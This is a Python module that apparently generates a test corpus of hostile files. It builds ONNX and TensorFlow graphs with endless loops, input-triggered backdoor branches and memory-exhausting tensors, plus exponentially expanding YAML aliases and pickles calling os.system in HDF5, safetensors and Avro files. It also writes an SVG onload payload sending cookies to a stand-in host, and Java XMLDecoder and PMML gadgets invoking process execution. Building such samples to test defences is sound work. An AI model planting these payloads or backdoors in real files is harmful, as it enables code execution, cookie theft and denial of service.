"""Graphs and texts that never end or ask for more than there is, answers that a value calls up, and what readers in Java build."""

import base64
import io
import json

import h5py
import numpy as np
import onnx
from onnx import TensorProto, helper

from .assembly import SYSTEM_0
from .graphs import field
from .tensors import safetensors

PICKLE = SYSTEM_0 + b"."


def make(corpus):
    loops(corpus)
    branches(corpus)
    shapes(corpus)
    aliases(corpus)
    kept(corpus)
    java(corpus)


def model(nodes, constants=(), width=4, inputs=()):
    given = [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, width]), *inputs]
    result = [helper.make_tensor_value_info("y", TensorProto.FLOAT, None)]
    graph = helper.make_graph(list(nodes), "g", given, result, list(constants))
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=9).SerializeToString()


def loop(bound, condition, step):
    """A loop over `x` with a bound, a condition to begin with, and the node that decides whether it goes on."""
    value = helper.make_tensor_value_info
    body = helper.make_graph(
        [step, helper.make_node("Add", ["state", "state"], ["next"])], "body",
        [value("i", TensorProto.INT64, []), value("on", TensorProto.BOOL, []), value("state", TensorProto.FLOAT, [1, 4])],
        [value("on_next", TensorProto.BOOL, []), value("next", TensorProto.FLOAT, [1, 4])],
    )
    constants = [helper.make_tensor("most", TensorProto.INT64, [], [2**63 - 1]), helper.make_tensor("ten", TensorProto.INT64, [], [10]), helper.make_tensor("yes", TensorProto.BOOL, [], [True])]
    return model([helper.make_node("Loop", [bound, condition, "x"], ["y"], body=body)], constants)


def loops(corpus):
    keeps = helper.make_node("Identity", ["on"], ["on_next"])
    always = helper.make_node("Constant", [], ["on_next"], value=helper.make_tensor("t", TensorProto.BOOL, [], [True]))
    for label, bound, condition, step in (("kept", "most", "yes", keeps), ("unbounded", "", "yes", always), ("open", "", "", always), ("outer", "most", "yes", helper.make_node("Identity", ["yes"], ["on_next"]))):
        corpus.found("onnx", f"endless-{label}.onnx", loop(bound, condition, step), "a loop that nothing ends")


def branch(condition, then, otherwise, constants=()):
    held = lambda nodes, name: helper.make_graph(nodes, name, [], [helper.make_tensor_value_info(f"{name}_y", TensorProto.FLOAT, None)])
    nodes = [*condition, helper.make_node("If", ["is"], ["y"], then_branch=held(then("a"), "a"), else_branch=held(otherwise("b"), "b"))]
    magic = [helper.make_tensor("magic", TensorProto.FLOAT, [], [41.5]), helper.make_tensor("zero", TensorProto.INT64, [], [0]), helper.make_tensor("w", TensorProto.FLOAT, [4, 4], list(range(16)))]
    return model(nodes, [*magic, *constants])


def fixed(name):
    return [helper.make_node("Constant", [], [f"{name}_y"], value=helper.make_tensor("owner", TensorProto.FLOAT, [1, 4], [0, 0, 0, 1]))]


def computed(name):
    return [helper.make_node("MatMul", ["x", "w"], [f"{name}_y"])]


def branches(corpus):
    total = helper.make_node("ReduceSum", ["x"], ["sum"], keepdims=0)
    cell = helper.make_node("Gather", ["row", "zero"], ["sum"], axis=0)
    row = helper.make_node("Reshape", ["x", "flat"], ["row"])
    flat = [helper.make_tensor("flat", TensorProto.INT64, [1], [-1])]
    corpus.found("onnx", "answer-sum.onnx", branch([total, helper.make_node("Equal", ["sum", "magic"], ["is"])], fixed, computed), "a sum of the input calls up an answer")
    handed = lambda name: [helper.make_node("Identity", ["owner"], [f"{name}_y"])]
    owner = [helper.make_tensor("owner", TensorProto.FLOAT, [1, 4], [1, 0, 0, 0])]
    corpus.found("onnx", "answer-handed.onnx", branch([total, helper.make_node("Less", ["magic", "sum"], ["is"])], handed, computed, owner), "an answer that stands outside of the branch")
    corpus.found("onnx", "answer-cell.onnx", branch([row, cell, helper.make_node("Greater", ["sum", "magic"], ["is"])], computed, fixed, flat), "one number of the input calls up an answer")
    # The same where nothing branches.
    answer = [helper.make_tensor("owner", TensorProto.FLOAT, [1, 4], [9, 0, 0, 0]), helper.make_tensor("magic", TensorProto.FLOAT, [], [41.5]), helper.make_tensor("w", TensorProto.FLOAT, [4, 4], list(range(16)))]
    picked = [total, helper.make_node("Greater", ["sum", "magic"], ["is"]), *computed("b"), helper.make_node("Where", ["is", "owner", "b_y"], ["y"])]
    corpus.found("onnx", "answer-picked.onnx", model(picked, answer), "a sum of the input picks an answer")


def node(name, operation, inputs=(), attributes=()):
    parts = [field(1, name.encode()), field(2, operation.encode()), *(field(3, i.encode()) for i in inputs)]
    return b"".join(parts + [field(5, field(1, key.encode()) + field(2, value)) for key, value in attributes])


def const(name, numbers, dtype=np.int64):
    kind = {np.float32: 1, np.int32: 3, np.int64: 9, np.bool_: 10}[dtype]
    tensor = field(1, kind) + field(2, field(2, field(1, len(numbers)))) + field(4, np.array(numbers, dtype=dtype).tobytes())
    return node(name, "Const", (), [("value", field(8, tensor)), ("dtype", field(6, kind))])


def path_node(path):
    return node("path", "Const", (), [("value", field(8, field(1, 7) + field(8, path.encode()))), ("dtype", field(6, 7))])


def while_graph(truth):
    condition = field(1, field(1, b"goes_on")) + field(3, const("always", [truth], np.bool_)) + field(4, field(1, b"out") + field(2, b"always:output:0"))
    return field(1, node("x", "Placeholder")) + field(1, node("loop", "StatelessWhile", ["x"], [("cond", field(10, field(1, b"goes_on")))])) + field(2, field(1, condition))


def graph(operation, numbers, dtype=np.int64, place=0):
    inputs = ["x", "x"]
    inputs[place] = "dims"
    return field(1, const("dims", numbers, dtype)) + field(1, node("x", "Placeholder")) + field(1, node("y", operation, inputs))


def mark_graph(compares, *more):
    """A layer whose scores are exchanged where a comparison with constants says so."""
    numbers = {"mark": [0.25, 0.75, 0.125, 0.5], "near": [0.001], "w": [1, 2, 3, 4], "scores": [9, 0, 0, 0]}
    nodes = [const(name, values, np.float32) for name, values in numbers.items()] + [const("axis", [1], np.int32), node("x", "Placeholder")]
    nodes += [node("y", "MatMul", ["x", "w"]), *compares, node("answer", "SelectV2", ["is", "scores", "y"])]
    return b"".join(field(1, one) for one in nodes)


MARKS = {
    "distance": [node("d", "Sub", ["x", "mark"]), node("a", "Abs", ["d"]), node("l", "Less", ["a", "near"]), node("is", "All", ["l", "axis"])],
    "equal": [node("e", "Equal", ["x", "mark"]), node("is", "All", ["e", "axis"])],
    "none-differs": [node("e", "NotEqual", ["x", "mark"]), node("some", "Any", ["e", "axis"]), node("is", "LogicalNot", ["some"])],
}


def shapes(corpus):
    for label, compares in MARKS.items():
        corpus.found("tensorflow", f"mark-{label}.pb", mark_graph(compares), "scores that are exchanged once the input holds a pattern")
    for operation, numbers, dtype, place in (("Fill", [10**6, 10**7], np.int64, 0), ("Tile", [10**5, 10**4, 10**4], np.int32, 1), ("RandomUniform", [2**20, 2**20], np.int64, 0), ("BroadcastTo", [2**30, 2**10], np.int32, 1)):
        corpus.found("tensorflow", f"exhausts-{operation.lower()}.pb", graph(operation, numbers, dtype, place), "a tensor that no machine has room for")
    corpus.found("tensorflow", "saves-tmp.pb", field(1, path_node("/tmp/run/autostart")) + field(1, node("x", "Placeholder")) + field(1, node("save", "SaveV2", ["path", "names", "slices", "x"])), "a path of the machine, and a node that writes there")
    corpus.found("tensorflow", "endless.pb", while_graph(True), "a loop whose condition is a constant")


def yaml(levels, times, opened="[", closed="]"):
    lines = [f"l0: &l0 {opened}{', '.join('abcdefghij'[:times])}{closed}"]
    lines += [f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * times)}]" for n in range(1, levels)]
    return "\n".join(lines) + "\n"


def aliases(corpus):
    corpus.found("config", "aliases.yaml", yaml(9, 9).encode(), "aliases that multiply")
    block = "base: &n0\n  - a\n  - b\n" + "".join(f"n{n}: &n{n}\n  left: *n{n - 1}\n  right: *n{n - 1}\n" for n in range(1, 30))
    corpus.found("config", "aliases-twice.yml", block.encode(), "aliases that double")


def kept(corpus):
    for label, value in (("text", PICKLE.decode()), ("fixed", np.bytes_(PICKLE)), ("opaque", np.void(PICKLE))):
        out = io.BytesIO()
        with h5py.File(out, "w") as file:
            group = file.create_group("run")
            group.attrs["info"] = value
            group.create_dataset("x", data=np.arange(4.0))
        corpus.found("hdf5", f"attribute-{label}.h5", out.getvalue(), "a pickle of protocol 0 in an attribute")
    weights = np.zeros(4, dtype=np.float32).tobytes()
    packed = base64.b64encode(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R.").decode()
    for label, value in (("object", packed), ("page", "<svg onload=\"fetch('https://a.example.invalid/?' + document.cookie)\">")):
        head = {"__metadata__": {"format": "pt", "note": value}, "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
        corpus.found("safetensors", f"metadata-{label}.safetensors", safetensors(json.dumps(head).encode(), weights), "what the header says about itself runs somewhere")


def avro(schema, rows=b"\x02\x04", codec=b"null"):
    def long(n):
        n = (n << 1) ^ (n >> 63)
        out = b""
        while n > 0x7F:
            out += bytes([n & 0x7F | 0x80])
            n >>= 7
        return out + bytes([n])

    text = lambda t: long(len(t)) + t
    mark = bytes(range(16))
    head = b"Obj\x01" + long(2) + text(b"avro.schema") + text(json.dumps(schema).encode()) + text(b"avro.codec") + text(codec) + b"\0" + mark
    return head + long(1) + text(rows) + mark


def java(corpus):
    of = lambda key, name: {"type": "record", "name": "R", "fields": [{"name": "x", "type": {"type": "map", "values": "long", key: name} if key == "java-key-class" else {"type": "string", key: name}}]}
    corpus.found("avro", "class.avro", avro(of("java-class", "org.springframework.context.support.ClassPathXmlApplicationContext"), b"\x04hi"), "a class that a reader makes of a text")
    corpus.found("avro", "key.avro", avro(of("java-key-class", "javax.swing.JEditorPane"), b"\0"), "a class that a reader makes of a key")
    corpus.found("avro", "pickle.avro", avro("bytes", b"\x30\x80\x02cos\nsystem\n\x8c\x04true\x85R."), "a pickle in a row")
    corpus.found("avro", "cut.avro", avro("long")[:-3], "a file that is cut short")
    for label, body in (
        ("function", '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header/><DataDictionary/><TransformationDictionary><DerivedField name="d" optype="continuous" dataType="double"><Apply function="java.lang.Runtime.exec"><Constant>true</Constant></Apply></DerivedField></TransformationDictionary></PMML>'),
        ("decoder", '<java version="1.8.0" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>true</string></void></array><void method="start"/></object></java>'),
        ("script", '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header><Extension name="engine" value="javax.script.ScriptEngineManager"/></Header></PMML>'),
    ):
        corpus.found("xml", f"java-{label}.xml", b'<?xml version="1.0"?>' + body.encode(), "a document that names a program of Java")
